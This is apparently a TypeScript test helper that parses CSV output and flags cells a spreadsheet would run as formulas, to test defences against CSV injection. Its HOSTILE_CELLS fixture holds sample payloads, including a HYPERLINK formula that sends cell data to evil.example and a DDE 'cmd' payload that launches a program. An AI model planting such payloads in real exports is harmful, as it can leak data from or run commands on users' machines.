// Reads a CSV answer back into rows of fields (RFC 4180 section 2), so tests look at each cell as a
// spreadsheet would receive it, quotes removed.

export function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"' && field === "") quoted = true;
    else if (c === ",") row.push(field), (field = "");
    else if (c === "\r" && text[i + 1] === "\n") {
      row.push(field), rows.push(row), (row = []), (field = ""), i++;
    } else field += c;
  }
  if (field !== "" || row.length > 0) throw new Error("the CSV does not end with CRLF");
  return rows;
}

/** The cells a spreadsheet would take for a formula: text starting with = + - @, a tab or CR (after blanks). */
export function formulaCells(rows: string[][]): string[] {
  return rows.flat().filter((cell) => /^\s*[=+\-@]|^[\t\r]/.test(cell) && !/^-?\d+(\.\d+)?(e-?\d+)?$/.test(cell));
}

/** Texts that start a formula, as customers and question files may send them. */
export const HOSTILE_CELLS = [
  "@SUM(1+1) where is my parcel",
  '=HYPERLINK("http://evil.example/?"&A1,"Click for your refund")',
  "+cmd|' /C calc'!A0 voucher",
  "-2+3 invoice copy, please",
  "  =1+1 leading blanks",
] as const;
